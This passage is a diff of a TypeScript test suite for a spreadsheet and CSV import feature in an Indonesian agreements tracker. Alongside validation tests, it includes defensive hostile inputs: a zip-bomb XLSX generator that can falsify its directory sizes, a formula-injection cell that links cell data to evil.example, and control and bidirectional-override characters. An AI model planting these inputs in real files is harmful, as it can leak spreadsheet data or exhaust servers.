@@ -1,14 +1,21 @@
 import { expect } from 'chai';
 import request from 'supertest';
+import mongoose from 'mongoose';
+import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { stringify } from 'csv-stringify/sync';
+import { parse } from 'csv-parse/sync';
 import { createTestApp, type TestApp } from '../support/app.js';
 import { loginAs } from '../support/users.js';
-import { bearer } from '../support/agreements.js';
+import { bearer, createAgreementVia } from '../support/agreements.js';
 import { expectError } from '../support/errors.js';
 import { ensureShippedIndices } from '../../domain/indices/shipped-indices.js';
 import { REGISTER_COLUMNS } from '../../domain/imports/register-columns.js';
 import { verifyHistory } from '../../domain/history/verify-history.js';
+import { loadBusinessCalendar } from '../../domain/deadlines/business-calendar.js';
+import { slaDueAt } from '../../workflows/business-days.js';
+import { sweepReminders } from '../../domain/reminders/sweep-reminders.js';
 
 const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
   const chunks: Buffer[] = [];
@@ -29,12 +36,12 @@ function register(n: number): Array<Record<string, string>> {
       stage: ['in_force', 'negotiation', 'awaiting_signature'][kind],
       stage_since: ['2019-11-25', '2021-03-01', '2022-10-03'][kind],
       parties: kind === 2 ? 'Kementerian Luar Negeri [agency, ID]; BP2MI [agency, ID]' : 'Republik Indonesia [state, ID]; Malaysia [state, MY]',
-      signatories: 'Menteri Ketenagakerjaan, Menteri; Minister of Human Resources, Minister',
+      signatories: kind === 2 ? 'Retno Marsudi, Menteri Luar Negeri; Benny Rhamdani, Kepala BP2MI' : 'Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia',
       signed_on: kind === 0 ? '2019-11-20' : '',
       signed_at_place: kind === 0 ? 'Kuala Lumpur' : '',
       in_force_on: kind === 0 ? '2019-11-20' : '',
       in_force_basis: kind === 0 ? 'on_signature' : '',
-      expires_on: kind === 0 ? '2024-11-19' : '',
+      expires_on: kind === 0 ? '2029-11-19' : '',
       notice_days: kind === 0 ? '90' : '',
       indices: 'protection_diplomacy',
       confidentiality: 'internal',
@@ -117,6 +124,19 @@ describe('imports: an existing register', function () {
     const events = history.body.items ?? history.body;
     expect(events[0].action).to.equal('imported');
     expect(events[0].changes.file).to.deep.equal({ name: 'register.xlsx', sha256: res.body.file.sha256 });
+    // the chained event holds what the register said, so a later edit of any of it shows in the history
+    expect(events[0].changes).to.deep.include({
+      title: { id: 'Nota Kesepahaman Lama 1', en: 'Old Memorandum 1' },
+      leadUnit: 'PWNI',
+      confidentiality: 'internal',
+      authenticLanguages: ['id', 'en'],
+      indices: ['protection_diplomacy'],
+      term: { expiresAt: '2029-11-18T17:00:00.000Z', noticePeriodDays: 90 },
+    });
+    expect(events[0].changes.parties.map((p: { name: string; signatory: { name: string } }) => [p.name, p.signatory.name])).to.deep.equal([
+      ['Republik Indonesia', 'Ida Fauziyah'],
+      ['Malaysia', 'M. Kulasegaran'],
+    ]);
     expect((await verifyHistory(t.ctx, one!._id)).valid).to.equal(true);
 
     // The reports are right from the first day: the 2020 summary counts what was in force then.
@@ -153,5 +173,425 @@ describe('imports: an existing register', function () {
     expectError(await request(t.app).post('/api/imports').set(bearer(token)).field('dryRun', 'true'), 422, 'validation_failed');
     const diplomat = (await loginAs(t, 'diplomat')).token;
     expectError(await request(t.app).post('/api/imports').set(bearer(diplomat)).attach('file', csvOf(register(1)), 'r.csv'), 403, 'forbidden');
+  });
+  const signedMou = { signatories: 'Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia', signed_on: '2022-06-01', signed_at_place: 'Bogor' };
+  const check = async (rows: Array<Record<string, string>>) => (await request(t.app).post('/api/imports').set(bearer(token)).attach('file', csvOf(rows), 'register.csv').expect(200)).body;
+  const problemsOf = (body: { problems: Array<{ row: number; column: string; message: { id: string; en: string } }> }) =>
+    body.problems.map((p) => `${p.row}:${p.column}: ${p.message.en} | ${p.message.id}`);
+
+  it('when a register holds states the stage rules forbid, then each is refused with its row, column and the rule, in both languages', async () => {
+    const body = await check([
+      // awaiting signature, and signed (which implies it), with no signatory named
+      draftRow('G-01', { type: 'technical_arrangement', stage: 'awaiting_signature', parties: 'Republik Indonesia [state, ID]; Negara Qatar [state, QA]' }),
+      draftRow('G-02', { stage: 'signed', signed_on: '2022-06-01', stage_since: '2022-06-01' }),
+      // entry into force before the signing; a term that ends before it began
+      draftRow('G-03', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-03-01', in_force_basis: 'on_signature' }),
+      draftRow('G-04', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-06-01', expires_on: '2021-01-01' }),
+      // in force by the stage, expired by the term
+      draftRow('G-05', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-06-01', expires_on: '2024-05-31' }),
+      // expired without ever having entered into force
+      draftRow('G-06', { ...signedMou, stage: 'expired', stage_since: '2024-06-01', expires_on: '2024-05-31' }),
+      // a language code that names no language; a three-letter code for a two-letter one
+      draftRow('G-07', { languages: 'id; xx' }),
+      draftRow('G-08', { languages: 'ind' }),
+      // what the rules allow: awaiting signature with every signatory named; expired after a term in force
+      draftRow('G-09', { ...signedMou, signed_on: '', signed_at_place: '', stage: 'awaiting_signature' }),
+      draftRow('G-10', { ...signedMou, stage: 'expired', stage_since: '2024-06-01', in_force_on: '2022-06-01', expires_on: '2024-05-31', languages: 'id; ms' }),
+    ]);
+    expect(problemsOf(body)).to.deep.equal([
+      '2:signatories: No signatory is named for: Republik Indonesia, Negara Qatar (a condition of the stage “Awaiting signature”) | Penanda tangan belum ditunjuk untuk: Republik Indonesia, Negara Qatar (syarat tahap “Menunggu penandatanganan”)',
+      '3:signatories: No signatory is named for: Republik Indonesia, Malaysia (a condition of the stage “Signed”) | Penanda tangan belum ditunjuk untuk: Republik Indonesia, Malaysia (syarat tahap “Ditandatangani”)',
+      '4:in_force_on: The entry into force (2022-03-01) cannot come before the signing (2022-06-01) | Tanggal mulai berlaku (2022-03-01) tidak boleh sebelum tanggal penandatanganan (2022-06-01)',
+      '5:expires_on: The term cannot end (2021-01-01) on or before the entry into force (2022-06-01) | Masa berlaku tidak dapat berakhir (2021-01-01) pada atau sebelum tanggal mulai berlaku (2022-06-01)',
+      '6:expires_on: The term ended on 2024-05-31, so the agreement is no longer in force: write the stage as expired (“Expired”), or, if the term was extended, give the new end date in expires_on | Masa berlaku berakhir pada 2024-05-31, jadi perjanjian tidak lagi berlaku: tulis tahapnya expired (“Berakhir”), atau, jika masa berlakunya diperpanjang, isi expires_on dengan tanggal berakhir yang baru',
+      '7:in_force_on: The entry-into-force date and its basis are required (a condition of the stage “Expired”) | Tanggal dan dasar mulai berlaku harus diisi (syarat tahap “Berakhir”)',
+      "8:languages: 'xx' is not a language code: write ISO 639-1 codes such as id, en, ms or ar, separated by semicolons | 'xx' bukan kode bahasa: tulis kode ISO 639-1 seperti id, en, ms atau ar, dipisah titik koma",
+      "9:languages: write 'id' for 'ind' (ISO 639-1) | tulis 'id' untuk 'ind' (ISO 639-1)",
+    ]);
+    expect(body.agreements.map((a: { code: string }) => a.code)).to.deep.equal(['G-09', 'G-10']);
+    expect(await t.ctx.models.Agreement.countDocuments({ code: /^G-/ })).to.equal(0);
+  });
+
+  it('when a stage is written as the interface names it, then it is read as its code; an unknown one is answered with the stages of the row’s path', async () => {
+    const body = await check([
+      draftRow('S-01', { stage: 'Penyusunan draf' }),
+      draftRow('S-02', { stage: '  perundingan ' }),
+      draftRow('S-03', { ...signedMou, stage: 'IN FORCE', stage_since: '2022-06-01', in_force_on: '2022-06-01' }),
+      draftRow('S-04', { stage: 'ratified' }),
+      draftRow('S-05', { type: 'cooperation_agreement', stage: 'negotiation', parties: 'Kementerian Luar Negeri [agency, ID]; BP2MI [agency, ID]' }),
+      // an MoU between two Indonesian institutions follows the domestic path: no negotiation
+      draftRow('S-06', { stage: 'Negotiation', parties: 'Kementerian Luar Negeri [agency, ID]; LPSK [agency, ID]' }),
+    ]);
+    expect(body.agreements.map((a: { code: string; stage: string }) => `${a.code}:${a.stage}`)).to.deep.equal(['S-01:drafting', 'S-02:negotiation', 'S-03:in_force']);
+    const [ratified, pks, domestic] = body.problems;
+    expect(ratified).to.include({ row: 5, column: 'stage' });
+    expect(ratified.message.en).to.equal(
+      "'ratified' is not a stage. Write a code or its name; the stages for the type Memorandum of Understanding (MoU) are: drafting (Drafting), interagency_consultation (Inter-agency consultation), negotiation (Negotiation), legal_review (Legal review), text_agreed (Text agreed), awaiting_signature (Awaiting signature), partially_signed (Partially signed), signed (Signed), pending_ratification (Pending ratification), in_force (In force), expired (Expired), terminated (Terminated), superseded (Superseded), on_hold (On hold), abandoned (Abandoned)",
+    );
+    expect(ratified.message.id).to.match(/^'ratified' bukan tahap yang dikenal\. Tulis kode atau nama tahapnya; tahap untuk jenis Nota Kesepahaman \(MoU\): drafting \(Penyusunan draf\), .*pending_ratification \(Menunggu pengesahan\), in_force \(Berlaku\)/);
+    expect(pks).to.include({ row: 6, column: 'stage' });
+    expect(pks.message.en).to.match(/^The type Cooperation Agreement \(PKS\) has no stage “Negotiation”\. Its stages are: drafting \(Drafting\), interagency_consultation \(Inter-agency consultation\), legal_review/);
+    expect(pks.message.id).to.match(/^Jenis Perjanjian Kerja Sama \(PKS\) tidak memiliki tahap “Perundingan”\. Tahapnya: drafting \(Penyusunan draf\)/);
+    expect(pks.message.en).not.to.contain('pending_ratification');
+    expect(domestic).to.include({ row: 7, column: 'stage' });
+    expect(domestic.message.en).to.match(/^The type Memorandum of Understanding \(MoU\) has no stage “Negotiation” when all its parties are Indonesian\./);
+    expect(domestic.message.id).to.match(/^Jenis Nota Kesepahaman \(MoU\) tidak memiliki tahap “Perundingan” jika semua pihaknya Indonesia\./);
+    expect(body.problems).to.have.length(3);
+  });
+
+  it('when a stage after signing has no signing date, then the message names the stage as people read it, with a correct article, beside the row’s other problems', async () => {
+    const body = await check([draftRow('M-01', { ...signedMou, signed_on: '', stage: 'in_force', stage_since: '2022-06-01' })]);
+    expect(body.problems.map((p: { column: string }) => p.column)).to.deep.equal(['signed_on', 'in_force_on']);
+    expect(body.problems[0].message).to.deep.equal({
+      en: 'At the stage “In force” an agreement needs its date of signing',
+      id: 'Perjanjian pada tahap “Berlaku” memerlukan tanggal penandatanganan',
+    });
+    expect(body.problems[1].message).to.deep.equal({
+      en: 'The entry-into-force date and its basis are required (a condition of the stage “In force”)',
+      id: 'Tanggal dan dasar mulai berlaku harus diisi (syarat tahap “Berlaku”)',
+    });
+  });
+
+  it('when the template is fetched, then the signatory example is a person and an office, and the guide explains that and lists every stage with its names and every index, an admin’s included', async () => {
+    const admin = (await loginAs(t, 'admin')).token;
+    await request(t.app)
+      .post('/api/indices')
+      .set(bearer(admin))
+      .send({ code: 'consular_services', name: { id: 'Indeks Layanan Kekonsuleran', en: 'Consular Services Index' }, fromYear: 2024 })
+      .expect(201);
+    const csv = await request(t.app).get('/api/imports/template.csv').set(bearer(token)).expect(200);
+    const [example] = parse(csv.text, { bom: true, columns: true }) as Array<Record<string, string>>;
+    expect(example.signatories).to.equal('Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia');
+    // the template's own example is a row the import takes as it is
+    const own = await request(t.app).post('/api/imports').set(bearer(token)).attach('file', Buffer.from(csv.text), 'templat.csv').expect(200);
+    expect(own.body.problems).to.deep.equal([]);
+
+    const xlsx = await request(t.app).get('/api/imports/template.xlsx').set(bearer(token)).buffer(true).parse(binary).expect(200);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.body);
+    const guide = book.getWorksheet('Petunjuk - Guide')!;
+    const rows: string[][] = [];
+    guide.eachRow((r) => rows.push([1, 2, 3, 4, 5].map((c) => String(r.getCell(c).value ?? ''))));
+    const byKey = new Map(rows.map((r) => [r[0], r]));
+    const signatories = byKey.get('signatories')!;
+    expect(signatories[2]).to.contain('"Nama, Jabatan": nama orangnya, lalu jabatan lengkapnya');
+    expect(signatories[3]).to.contain('"Name, Title": the person\'s name, then their full office');
+    expect(signatories[4]).to.equal('Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia');
+    const stageRows = [
+      ['drafting', 'Penyusunan draf', 'Drafting'],
+      ['interagency_consultation', 'Konsultasi antarinstansi', 'Inter-agency consultation'],
+      ['negotiation', 'Perundingan', 'Negotiation'],
+      ['legal_review', 'Telaah hukum', 'Legal review'],
+      ['text_agreed', 'Naskah disepakati', 'Text agreed'],
+      ['awaiting_signature', 'Menunggu penandatanganan', 'Awaiting signature'],
+      ['partially_signed', 'Ditandatangani sebagian', 'Partially signed'],
+      ['signed', 'Ditandatangani', 'Signed'],
+      ['pending_ratification', 'Menunggu pengesahan', 'Pending ratification'],
+      ['in_force', 'Berlaku', 'In force'],
+      ['expired', 'Berakhir', 'Expired'],
+      ['terminated', 'Diakhiri', 'Terminated'],
+      ['superseded', 'Digantikan', 'Superseded'],
+      ['on_hold', 'Ditangguhkan', 'On hold'],
+      ['abandoned', 'Dibatalkan', 'Abandoned'],
+    ];
+    for (const [code, id, en] of stageRows) {
+      expect(byKey.has(code), code).to.equal(true);
+      expect(byKey.get(code)![2]).to.match(new RegExp(`^${id} \\(alur: `));
+      expect(byKey.get(code)![3]).to.match(new RegExp(`^${en} \\(paths: `));
+    }
+    expect(byKey.get('negotiation')![3]).to.equal('Negotiation (paths: international)');
+    expect(byKey.get('in_force')![3]).to.equal('In force (paths: international, domestic, guideline)');
+    expect(byKey.get('information_systems')![2]).to.match(/^Indeks Pemanfaatan dan Pengembangan Sistem Informasi/);
+    expect(byKey.get('institutional_strengthening')![3]).to.match(/^Index of Strengthening the Institutions/);
+    expect(byKey.get('protection_diplomacy')![2]).to.equal('Indeks Diplomasi Pelindungan WNI di Luar Negeri');
+    expect(byKey.get('consular_services')!.slice(2, 4)).to.deep.equal(['Indeks Layanan Kekonsuleran', 'Consular Services Index']);
+  });
+
+  it('when agreements are imported at stages begun long ago, then each gets the deadline a move into its stage opens, counted from stage_since, and shows as overdue', async () => {
+    const rows = [
+      draftRow('D-01', { lead_unit: 'HPI' }),
+      draftRow('D-02', { ...signedMou, signed_on: '', signed_at_place: '', stage: 'awaiting_signature', stage_since: '2023-03-01' }),
+      draftRow('D-03', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-06-01', expires_on: '2032-05-31', notice_days: '90' }),
+    ];
+    const before = await t.ctx.models.Deadline.countDocuments({});
+    const dry = await check(rows);
+    expect(dry.problems).to.deep.equal([]);
+    expect(await t.ctx.models.Deadline.countDocuments({})).to.equal(before, 'a check creates nothing');
+    await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', csvOf(rows), 'register.csv').expect(201);
+    const deadlinesOf = async (code: string) => {
+      const a = await t.ctx.models.Agreement.findOne({ code }).lean();
+      const res = await request(t.app).get(`/api/agreements/${String(a!._id)}/deadlines`).set(bearer(token)).expect(200);
+      const items: Array<{ kind: string; stage: string | null; status: string; dueAt: string }> = res.body.items ?? res.body;
+      return { agreement: a!, items: items.map((d) => `${d.kind}:${d.stage ?? '-'}:${d.status}:${d.dueAt}`).sort() };
+    };
+    // drafting: 30 working days from 2 May 2022, 17:00 Jakarta, as a move into drafting that day would give
+    const drafting = await deadlinesOf('D-01');
+    const draftingDue = slaDueAt(new Date('2022-05-01T17:00:00.000Z'), 30, await loadBusinessCalendar(t.ctx)).toISOString();
+    expect(drafting.agreement.stageDueAt!.toISOString()).to.equal(draftingDue);
+    expect(drafting.items).to.deep.equal([`stage_due:drafting:open:${draftingDue}`]);
+    // awaiting signature: the stage's deadline and one per party yet to sign, due together
+    const awaiting = await deadlinesOf('D-02');
+    const awaitingDue = awaiting.agreement.stageDueAt!.toISOString();
+    expect(awaitingDue.startsWith('2023-04')).to.equal(true);
+    expect(awaiting.items).to.deep.equal([`signing_due:-:open:${awaitingDue}`, `signing_due:-:open:${awaitingDue}`, `stage_due:awaiting_signature:open:${awaitingDue}`]);
+    // in force: no stage deadline, but the expiry and the renewal notice, as on entry into force
+    const inForce = await deadlinesOf('D-03');
+    expect(inForce.items.map((d) => d.split(':')[0])).to.deep.equal(['expiry', 'renewal_notice']);
+
+    const overdue = await request(t.app).get('/api/agreements?overdue=true&limit=100').set(bearer(token)).expect(200);
+    const overdueCodes = overdue.body.items.map((a: { code: string }) => a.code);
+    expect(overdueCodes).to.include.members(['D-01', 'D-02']);
+    expect(overdueCodes).not.to.include('D-03');
+    // the reports count it: a stage deadline due in 2022, never met
+    const admin = (await loginAs(t, 'admin')).token;
+    const summary = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31&leadUnit=HPI').set(bearer(admin)).expect(200);
+    expect(summary.body.stageDeadlines.byStage).to.deep.equal([{ stage: 'drafting', met: 0, missed: 1, onTimeShare: 0 }]);
+
+    // Import day sends no burst of reminders for years of past deadlines: their reminders count as
+    // given, and only those still ahead (the expiry's, years away) are scheduled.
+    const ids = [drafting, awaiting, inForce].map((d) => d.agreement._id);
+    await sweepReminders(t.ctx);
+    expect(await t.ctx.models.ReminderDelivery.countDocuments({ agreementId: mongoose.trusted({ $in: ids }) }), 'reminders recorded on import day').to.equal(0);
+    expect(await t.ctx.models.Notification.countDocuments({ agreementId: mongoose.trusted({ $in: ids }) }), 'notifications on import day').to.equal(0);
+    const scheduled = await t.ctx.models.Deadline.find({ agreementId: mongoose.trusted({ $in: ids }) }, { kind: 1, nextReminderAt: 1 }).lean();
+    for (const d of scheduled) {
+      if (d.kind === 'expiry') expect(d.nextReminderAt!.getTime(), 'the expiry still reminds ahead of time').to.be.greaterThan(Date.now());
+      else if (d.kind === 'stage_due' || d.kind === 'signing_due') expect(d.nextReminderAt, `${d.kind} past every reminder`).to.equal(null);
+    }
+  });
+});
+
+/** A bilateral MoU in drafting, as one row of a register, changed by `overrides`. */
+const draftRow = (code: string, overrides: Record<string, string> = {}): Record<string, string> => ({
+  ...Object.fromEntries(REGISTER_COLUMNS.map((c) => [c.key, ''])),
+  code,
+  type: 'mou',
+  title_id: `Nota Kesepahaman ${code}`,
+  title_en: `Memorandum ${code}`,
+  lead_unit: 'PWNI',
+  stage: 'drafting',
+  stage_since: '2022-05-02',
+  parties: 'Republik Indonesia [state, ID]; Malaysia [state, MY]',
+  confidentiality: 'internal',
+  ...overrides,
+});
+
+/** A workbook with one sheet 'Data': the header, then each row's cells as given (strings or exceljs cell values). */
+async function xlsxOf(header: string[], rows: Array<Array<ExcelJS.CellValue>>): Promise<Buffer> {
+  const book = new ExcelJS.Workbook();
+  const sheet = book.addWorksheet('Data');
+  sheet.addRow(header);
+  for (const r of rows) sheet.addRow(r);
+  return Buffer.from(await book.xlsx.writeBuffer());
+}
+
+/**
+ * A small XLSX whose sheet XML inflates to `mb` megabytes (blank space inside <sheetData>, valid
+ * XML that deflate squeezes about a thousand times). With `lie`, the zip's directory declares the
+ * part as 1 KB, as a hostile file may.
+ */
+async function zipBomb(mb: number, lie = false): Promise<Buffer> {
+  const base = await JSZip.loadAsync(await xlsxOf(['code'], []));
+  const sheetPath = 'xl/worksheets/sheet1.xml';
+  const chunk = Buffer.alloc(1024 * 1024, 0x20);
+  let sent = 0;
+  const body = new Readable({
+    read() {
+      if (sent === 0) this.push('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>');
+      if (sent < mb) this.push(chunk);
+      else {
+        this.push('</sheetData></worksheet>');
+        this.push(null);
+      }
+      sent++;
+    },
+  });
+  base.file(sheetPath, body);
+  const bomb = Buffer.from(await base.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } }));
+  if (lie) {
+    // local file header (PK\3\4): uncompressed size at +22; central directory (PK\1\2): at +24
+    const name = Buffer.from(sheetPath);
+    for (let at = bomb.indexOf(name); at >= 0; at = bomb.indexOf(name, at + 1)) {
+      if (bomb.readUInt32LE(at - 30) === 0x04034b50) bomb.writeUInt32LE(1024, at - 30 + 22);
+      else if (bomb.readUInt32LE(at - 46) === 0x02014b50) bomb.writeUInt32LE(1024, at - 46 + 24);
+    }
+  }
+  return bomb;
+}
+
+/** The highest resident memory seen, sampled every few milliseconds while `work` runs. */
+async function peakMemoryDuring<T>(work: () => Promise<T>): Promise<{ result: T; growthMb: number }> {
+  global.gc?.();
+  const baseline = process.memoryUsage().rss;
+  let peak = baseline;
+  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
+  try {
+    const result = await work();
+    peak = Math.max(peak, process.memoryUsage().rss);
+    return { result, growthMb: (peak - baseline) / (1024 * 1024) };
+  } finally {
+    clearInterval(timer);
+  }
+}
+
+describe('imports: bounds and refusals of a hostile or mistaken register', function () {
+  this.timeout(60_000);
+  let t: TestApp;
+  let token: string;
+  const dryRun = (file: Buffer, name: string) => request(t.app).post('/api/imports').set(bearer(token)).attach('file', file, name);
+  const problemsOf = (body: { problems: Array<{ row: number; column: string }> }) => body.problems.map((p) => `${p.row}:${p.column}`);
+
+  before(async () => {
+    t = await createTestApp({ label: 'imports_bounds' });
+    await ensureShippedIndices(t.ctx);
+    token = (await loginAs(t, 'drafter')).token;
+  });
+  after(async () => t.close());
+
+  it('when the file is larger than IMPORT_MAX_BYTES, then 413 says so in both languages before anything is read', async () => {
+    const small = await createTestApp({ label: 'imports_small', env: { IMPORT_MAX_BYTES: String(64 * 1024) }, database: undefined });
+    try {
+      const drafter = (await loginAs(small, 'drafter')).token;
+      const big = csvOf(Array.from({ length: 600 }, (_, i) => draftRow(`BIG-${String(i).padStart(4, '0')}`)));
+      expect(big.length).to.be.greaterThan(64 * 1024);
+      const res = await request(small.app).post('/api/imports').set(bearer(drafter)).attach('file', big, 'big.csv');
+      expectError(res, 413, 'payload_too_large');
+      expect(res.body.error.message).to.match(/larger than the upload limit/).and.to.match(/melebihi batas/);
+      // a file under the limit is still read
+      await request(small.app).post('/api/imports').set(bearer(drafter)).attach('file', csvOf([draftRow('SMALL-01')]), 'small.csv').expect(200);
+    } finally {
+      await small.close();
+    }
+  });
+
+  it('when a CSV has more rows than an import takes, then 422 "too many rows" answers at once, reading no further; an endless record is refused too', async () => {
+    const header = REGISTER_COLUMNS.map((c) => c.key).join(',');
+    // 4.5 million one-cell rows in 9 MB: the parser stops one row past the limit
+    const huge = Buffer.from(`${header}\n${'a\n'.repeat(4_500_000)}`);
+    const res = await dryRun(huge, 'huge.csv');
+    expectError(res, 422, 'unprocessable');
+    expect(res.body.error.details).to.include({ reason: 'too_many_rows', limit: 20_000 });
+    expect(res.body.error.message).to.match(/Too many rows/).and.to.match(/Terlalu banyak baris/);
+    expect(await t.ctx.models.ImportJob.countDocuments({}), 'no job is started for a file refused while reading').to.equal(0);
+
+    const endless = Buffer.from(`${header}\n"${'x'.repeat(300_000)}`);
+    const open = await dryRun(endless, 'open-quote.csv');
+    expectError(open, 422, 'unprocessable');
+    expect(open.body.error.details.reason).to.equal('record_too_long');
+  });
+
+  it('when an XLSX has more rows than an import takes, then 422 "too many rows"', async () => {
+    const rows = Array.from({ length: 20_001 }, (_, i) => [`X-${i + 1}`]);
+    const res = await dryRun(await xlsxOf(REGISTER_COLUMNS.map((c) => c.key), rows), 'many.xlsx');
+    expectError(res, 422, 'unprocessable');
+    expect(res.body.error.details.reason).to.equal('too_many_rows');
+  });
+
+  it('when a small XLSX inflates to 200 megabytes (a zip bomb), then it is refused with 422 before it is unpacked, even when its directory lies about the size', async () => {
+    for (const lie of [false, true]) {
+      const bomb = await zipBomb(200, lie);
+      expect(bomb.length, 'the bomb itself is small').to.be.lessThan(1024 * 1024);
+      const { result: res, growthMb } = await peakMemoryDuring(() => dryRun(bomb, 'bomb.xlsx'));
+      expectError(res, 422, 'unprocessable');
+      expect(res.body.error.details.reason, `lie: ${lie}`).to.equal('inflates_too_much');
+      expect(growthMb, `memory grew by ${Math.round(growthMb)} MB (lie: ${lie})`).to.be.lessThan(200);
+    }
+  });
+
+  it('when a CSV is not UTF-8 (Latin-1 bytes), then 422 asks for CSV UTF-8 instead of storing U+FFFD', async () => {
+    const text = csvOf([draftRow('LAT-01', { title_id: 'Kerjasama Indonésia' })]).toString('utf8').replace(/^\uFEFF/, '');
+    const res = await dryRun(Buffer.from(text, 'latin1'), 'latin1.csv');
+    expectError(res, 422, 'unprocessable');
+    expect(res.body.error.details.reason).to.equal('not_utf8');
+  });
+
+  it('when rows break the limits and patterns of the agreement form, then each is a problem with its row and column in both languages, as POST /api/agreements would refuse it', async () => {
+    await createAgreementVia(t, token, { code: 'MOU-XX-2020-01' });
+    const parties60 = Array.from({ length: 60 }, (_, i) => `Negara ${i + 1} [state]`).join('; ');
+    const rows = [
+      draftRow('LIM-01', { title_en: 'Memorandum '.repeat(60) }), // 659 characters once trimmed
+      draftRow('=HYPERLINK("http://evil.example/?x="&C2,"Klik")'),
+      draftRow('LIM-03', { lead_unit: '*', confidentiality: 'confidential' }),
+      draftRow('LIM-04', { stage_since: '0001-01-01' }),
+      draftRow('LIM-05', { title_id: 'Judul\u0000dengan\u001bkendali', title_en: 'Title\u202Eevil' }),
+      draftRow('mou-xx-2020-01'),
+      draftRow('LIM-07', { parties: parties60 }),
+      draftRow('LIM-08', { signatories: `${'Nama '.repeat(50)}, Menteri; Datuk Seri, Menteri`, stage: 'negotiation', stage_since: '2022-06-01' }),
+      draftRow('LIM-09', { subjects: 'pelindungan; ' + 's'.repeat(100), notice_days: '4000', signed_at_place: 'K'.repeat(201) }),
+      draftRow('LIM-10', { languages: 'id; id' }),
+      draftRow('lim-11'),
+    ];
+    const res = await dryRun(csvOf(rows), 'limits.csv').expect(200);
+    expect(problemsOf(res.body)).to.deep.equal([
+      '2:title_en',
+      '3:code',
+      '4:lead_unit',
+      '5:stage_since',
+      '6:title_id',
+      '6:title_en',
+      '7:code',
+      '8:parties',
+      '9:signatories',
+      '10:signed_at_place',
+      '10:notice_days',
+      '10:subjects',
+      '11:languages',
+    ]);
+    const byWhere = Object.fromEntries(res.body.problems.map((p: { row: number; column: string; message: { en: string; id: string } }) => [`${p.row}:${p.column}`, p.message]));
+    expect(byWhere['2:title_en'].en).to.match(/659 characters; at most 500/);
+    expect(byWhere['2:title_en'].id).to.match(/paling banyak 500/);
+    expect(byWhere['4:lead_unit'].en).to.match(/is not a unit/);
+    expect(byWhere['5:stage_since'].en).to.match(/outside 1945-01-01/);
+    expect(byWhere['6:title_id'].en).to.match(/control character/);
+    expect(byWhere['6:title_en'].en).to.match(/bidirectional override/);
+    expect(byWhere['7:code'].en).to.equal('MOU-XX-2020-01 is already in the tracker');
+    // a code in lower case is the same code: stored as the form stores it
+    expect(res.body.agreements.map((a: { code: string }) => a.code)).to.deep.equal(['LIM-11']);
+  });
+
+  it('when a header is written in another case, then it is read; when one is misspelt or repeated, then the file is refused naming it, so a confidential register is never imported as internal', async () => {
+    const keys = REGISTER_COLUMNS.map((c) => c.key);
+    const good = draftRow('CAP-01', { confidentiality: 'confidential', lead_unit: 'PROTKONS' });
+    const withHeader = (header: string[], values: string[]) => Buffer.from(`${header.join(',')}\n${values.map((v) => `"${v}"`).join(',')}\n`);
+
+    const cased = keys.map((k) => (k === 'confidentiality' ? ' Confidentiality ' : k === 'title_en' ? 'TITLE_EN' : k));
+    const created = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', withHeader(cased, keys.map((k) => good[k])), 'cased.csv').expect(201);
+    expect(created.body.valid).to.equal(1);
+    const stored = await t.ctx.models.Agreement.findOne({ code: 'CAP-01' }).lean();
+    expect(stored!.confidentiality).to.equal('confidential');
+    expect(stored!.title.en).to.equal('Memorandum CAP-01');
+
+    const misspelt = keys.map((k) => (k === 'confidentiality' ? 'confidentialty' : k));
+    const refused = await dryRun(withHeader(misspelt, keys.map((k) => good[k])), 'misspelt.csv');
+    expectError(refused, 422, 'validation_failed');
+    expect(refused.body.error.message).to.contain('confidentialty');
+    expect(refused.body.error.details).to.deep.include({ field: 'confidentialty', column: 'Q', message: `unknown column; the columns are: ${keys.join(', ')} / kolom tidak dikenal` });
+
+    const twice = [...keys, 'confidentiality'];
+    const repeated = await dryRun(withHeader(twice, [...keys.map((k) => good[k]), 'public']), 'twice.csv');
+    expectError(repeated, 422, 'validation_failed');
+    expect(repeated.body.error.details.map((d: { field: string; column: string }) => `${d.column}:${d.field}`)).to.deep.equal([`T:confidentiality`]);
+
+    const xlsxTwice = await dryRun(await xlsxOf(twice, [[...keys.map((k) => good[k]), '']]), 'twice.xlsx');
+    expectError(xlsxTwice, 422, 'validation_failed');
+    expect(await t.ctx.models.Agreement.countDocuments({ code: 'CAP-01' })).to.equal(1);
+  });
+
+  it('when XLSX cells hold rich text, then their plain text is read; when one holds a formula, then it is a problem of its row and column, never "[object Object]"', async () => {
+    const keys = REGISTER_COLUMNS.map((c) => c.key);
+    const cells = (r: Record<string, ExcelJS.CellValue>) => keys.map((k) => r[k]);
+    const rich = { ...draftRow('RICH-01'), title_en: { richText: [{ text: 'Memorandum ', font: { bold: true } }, { text: 'on Labour' }] } };
+    const formula = { ...draftRow('FORM-01'), title_id: { formula: 'CONCATENATE("Nota ","Kesepahaman")', result: 'Nota Kesepahaman' } };
+    const file = await xlsxOf(keys, [cells(rich), cells(formula)]);
+    const res = await dryRun(file, 'cells.xlsx').expect(200);
+    expect(problemsOf(res.body)).to.deep.equal(['3:title_id']);
+    expect(res.body.problems[0].message.en).to.match(/formula/);
+    expect(res.body.problems[0].message.id).to.match(/rumus/);
+    const refused = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', file, 'cells.xlsx');
